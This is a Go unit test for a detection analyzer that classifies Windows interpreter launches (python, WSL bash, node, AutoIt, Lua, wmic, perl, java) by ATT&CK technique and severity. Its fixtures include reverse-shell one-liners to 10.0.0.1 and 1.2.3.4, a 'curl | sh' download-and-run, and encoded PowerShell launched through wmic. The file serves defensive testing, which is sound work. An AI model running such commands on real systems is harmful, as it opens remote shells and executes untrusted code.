package analyzers

import "testing"

func TestOtherInterpreters(t *testing.T) {
	const (
		py   = `C:\Python39\python.exe`
		wsl  = `C:\Windows\System32\wsl.exe`
		bash = `C:\Windows\System32\bash.exe`
		nd   = `C:\Program Files\nodejs\node.exe`
		au3  = `C:\Users\bob\AppData\Local\Temp\AutoIt3.exe`
		luaX = `C:\ProgramData\lua\lua.exe`
		wmic = `C:\Windows\System32\wbem\WMIC.exe`
		word = `C:\Program Files\Microsoft Office\WINWORD.EXE`
	)
	runTable(t, []tableCase{
		{"python base64 exec", []ev{security4688(py, cmd, `python -c "import base64;exec(base64.b64decode('aW1wb3J0IHNvY2tldCxzdWJwcm9jZXNzO3M9c29ja2V0LnNvY2tldCgpO3N1YnByb2Nlc3MuY2FsbChbJ2NtZCddKQ=='))"`)},
			"T1059.006", "high", "python.exe reverse-shell"},
		{"python script from downloads", []ev{security4688(py, expl, `python.exe C:\Users\bob\Downloads\tool.py`)},
			"T1059.006", "medium", "python.exe ran tool.py from a download or temporary folder"},
		{"python developer script is quiet", []ev{security4688(py, expl, `python.exe C:\src\app\manage.py runserver`)}, "T1059.006", "", ""},
		{"python from word", []ev{security4688(py, word, `python.exe -c "print(1)"`)}, "T1059.006", "high", "python.exe started by winword.exe (Office)"},
		{"wsl bash reverse shell", []ev{security4688(wsl, cmd, `wsl.exe -e bash -c "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"`)},
			"T1059.004", "high", "wsl.exe reverse-shell"},
		{"bash curl pipe", []ev{security4688(bash, cmd, `bash -c "curl http://10.0.0.1/x.sh | sh"`)}, "T1059.004", "medium", "bash.exe download"},
		{"wsl listing is quiet", []ev{security4688(wsl, expl, `wsl.exe --list --verbose`)}, "T1059.004", "", ""},
		{"wsl enabled by dism", []ev{security4688(`C:\Windows\System32\Dism.exe`, ps, `"C:\WINDOWS\system32\Dism.exe" /online /enable-feature /featurename:Microsoft-Windows-Subsystem-Linux /all /norestart`)},
			"T1059.004", "medium", "Windows Subsystem for Linux enabled"},
		{"dism enabling another feature is quiet", []ev{security4688(`C:\Windows\System32\Dism.exe`, ps, `Dism.exe /online /enable-feature /featurename:NetFx3`)}, "T1059.004", "", ""},
		{"node child_process one-liner", []ev{security4688(nd, cmd, `node -e "require('child_process').exec('curl http://x/a -o a.exe')"`)},
			"T1059.007", "medium", "node.exe download"},
		{"node app is quiet", []ev{security4688(nd, expl, `node.exe C:\src\web\server.js`)}, "T1059.007", "", ""},
		{"autoit any run", []ev{security4688(au3, expl, `AutoIt3.exe C:\Users\bob\AppData\Local\Temp\x.a3x`)}, "T1059.010", "medium", "autoit3.exe ran x.a3x from a download or temporary folder"},
		{"autoit installed run is low", []ev{security4688(`C:\Program Files\AutoIt3\AutoIt3.exe`, expl, `AutoIt3.exe C:\Tools\inventory.au3`)}, "T1059.010", "low", "autoit3.exe ran (AutoIt or AutoHotkey)"},
		{"lua run", []ev{security4688(luaX, expl, `lua.exe C:\ProgramData\lua\main.lua`)}, "T1059.011", "low", "lua.exe ran (Lua)"},
		{"lua prefetch", []ev{prefetchWith("LUA.EXE", `\VOLUME{1}\USERS\PUBLIC\X.LUA`)}, "T1059.011", "medium", "lua.exe ran a script from a download or temporary folder (prefetch): x.lua"},
		{"python prefetch is context", []ev{prefetchWith("PYTHON.EXE")}, "T1059.006", "informational", "python.exe ran (prefetch)"},
		{"wmic process call create powershell", []ev{security4688(wmic, cmd, `wmic process call create "powershell -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGUAbABsAG8AIAB3AG8AcgBsAGQA"`)},
			"T1059", "high", `wmic process call create: powershell -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGUAbABsAG8AIAB3AG8AcgBsAGQA`},
		{"wmic remote process", []ev{security4688(wmic, cmd, `wmic /node:10.0.0.7 process call create "C:\Windows\Temp\x.exe"`)},
			"T1059", "high", `wmic process call create: C:\Windows\Temp\x.exe`},
		{"wmic query is quiet", []ev{security4688(wmic, cmd, `wmic os get caption`)}, "T1059", "!low", ""},
		{"perl socket one-liner", []ev{security4688(`C:\Strawberry\perl\bin\perl.exe`, cmd, `perl -e "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));exec('cmd.exe')" /dev/tcp/1.2.3.4/80`)},
			"T1059", "high", "perl.exe reverse-shell"},
		{"java jar from temp", []ev{security4688(`C:\Program Files\Java\bin\java.exe`, cmd, `java -jar C:\Users\bob\AppData\Local\Temp\x.jar`)},
			"T1059", "medium", "java.exe ran x.jar from a download or temporary folder"},
	})
}
